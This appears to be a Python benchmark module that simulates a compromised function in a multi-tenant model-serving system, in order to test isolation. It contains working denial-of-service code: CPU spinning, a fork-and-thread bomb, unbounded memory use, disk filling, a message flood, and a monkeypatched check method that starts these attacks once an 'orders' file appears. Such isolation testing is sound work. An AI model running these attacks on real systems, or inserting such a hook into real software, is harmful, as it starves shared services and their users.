"""Code of a compromised function that goes on serving: it starves others by the attack that a file in its folder names.

Functions whose adapter's folder has no such file are left alone. The benchmark can write this file, and the function
can read it.
"""

from __future__ import annotations

import contextlib
import ctypes
import hashlib
import os
import socket
import stat
import threading
import time
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path
from typing import Any

from isolation_attacks import attempt_all

from manylora.execution.storage.adapter_files import InlineReader
from manylora.functions.processes.frames import frame
from manylora.serving.hosting.protocol import Observations, Turn, encode

ORDERS = "orders"
LOOK_EVERY_S = 0.02
NUM_SPINNING, NUM_COPYING = 8, 2
BLOCK_BYTES = 64 << 20
MIB = 1 << 20
STACK_BYTES = 1 << 18
DESCRIPTORS = range(3, 64)

Attack = Callable[[threading.Event, Path], None]


def spin(end: threading.Event, folder: Path) -> None:
    """Compute, without the interpreter's lock."""
    while not end.is_set():
        hashlib.pbkdf2_hmac("sha256", b"password", b"salt", 10_000)


def copy(end: threading.Event, folder: Path) -> None:
    """Fill the caches and the memory bus, without the interpreter's lock."""
    source, target = bytearray(BLOCK_BYTES), bytearray(BLOCK_BYTES)
    to, of = ((ctypes.c_char * BLOCK_BYTES).from_buffer(one) for one in (target, source))
    while not end.is_set():
        ctypes.memmove(to, of, BLOCK_BYTES)


def multiply(end: threading.Event, folder: Path) -> None:
    """Fork, and start threads that compute, until both are refused; again and again."""
    with beside(end, folder, spin, num=0) as threads:
        while not end.is_set():
            with contextlib.suppress(OSError, RuntimeError):
                if os.fork() == 0:
                    os._exit(0)
            with contextlib.suppress(OSError, RuntimeError, MemoryError):
                thread = threading.Thread(target=spin, args=(end, folder), daemon=True)
                thread.start()
                threads.append(thread)
                continue
            end.wait(0.01)


def take_memory(end: threading.Event, folder: Path) -> None:
    """Take memory until it is refused, let it go, and begin again."""
    held: list[bytearray] = []
    while not end.is_set():
        try:
            held.append(bytearray(b"x") * MIB)
        except MemoryError:
            held.clear()


def fill_disk(end: threading.Event, folder: Path) -> None:
    """Write wherever files may be: folders, memory, the log."""
    block = bytes(MIB)

    def write_memory() -> None:
        with open(os.memfd_create("x"), "wb", buffering=0) as file:
            file.write(block)

    writers: tuple[Callable[[], object], ...] = (
        *(lambda path=path: Path(path).write_bytes(block) for path in (folder / "x", "/tmp/x", "/dev/shm/x", "/x")),
        lambda: os.write(2, block),
        write_memory,
    )
    while not end.is_set():
        for write in writers:
            with contextlib.suppress(OSError):
                write()


def say_nothing(end: threading.Event, folder: Path) -> None:
    """Flood the API process with messages that are valid and say nothing."""
    one = frame(encode(Turn([], Observations())))
    with socket.socket(fileno=os.dup(descriptor_of(stat.S_ISSOCK))) as connection:
        while not end.is_set():
            connection.sendall(one * 1000)


def try_everything(end: threading.Event, folder: Path) -> None:
    """Try every attack that is to be refused, in turn."""
    sealed = descriptor_of(stat.S_ISREG)
    other = folder.with_name("f1") / "adapter_model.safetensors"
    while not end.is_set():
        attempt_all(os.getppid(), sealed, str(folder), str(other))


ATTACKS: dict[str, tuple[int, Attack]] = {
    "spinning": (NUM_SPINNING, spin),
    "copying memory": (NUM_COPYING, copy),
    "a bomb of forks and threads": (1, multiply),
    "memory without end": (1, take_memory),
    "writing files without end": (1, fill_disk),
    "a flood of messages": (1, say_nothing),
    "every attempt of the attack table": (1, try_everything),
}
"""Threads and work of each attack."""


def descriptor_of(is_wanted: Callable[[int], bool]) -> int:
    """Return the open descriptor of a kind: there is one socket, and one file, the base."""
    for descriptor in DESCRIPTORS:
        with contextlib.suppress(OSError):
            if is_wanted(os.fstat(descriptor).st_mode):
                return descriptor
    raise OSError("no such descriptor")


@contextlib.contextmanager
def beside(end: threading.Event, folder: Path, work: Attack, num: int) -> Iterator[list[threading.Thread]]:
    """Run threads beside, as many as may be started; at the end they have ended."""
    threads: list[threading.Thread] = []
    try:
        with contextlib.suppress(RuntimeError):
            for _ in range(num):
                thread = threading.Thread(target=work, args=(end, folder), daemon=True)
                thread.start()
                threads.append(thread)
        yield threads
    finally:
        end.set()
        for thread in threads:
            thread.join()


def obey(folder: Path) -> None:
    """Follow the file of orders for ever."""
    threading.stack_size(STACK_BYTES)
    while True:
        wanted = (folder / ORDERS).read_text()
        if wanted not in ATTACKS:
            time.sleep(LOOK_EVERY_S)
            continue
        num, work = ATTACKS[wanted]
        with beside(threading.Event(), folder, work, num):
            while (folder / ORDERS).read_text() == wanted:
                time.sleep(LOOK_EVERY_S)


def compromise() -> None:
    """Let functions obey from the first look at their adapter on."""
    check = InlineReader.check

    def hostile(self: InlineReader, adapters: Sequence[tuple[str, str]]) -> Any:
        for _, path in adapters:
            if (Path(path) / ORDERS).exists():
                threading.Thread(target=obey, args=(Path(path),), daemon=True).start()
        return check(self, adapters)

    InlineReader.check = hostile  # type: ignore[method-assign]
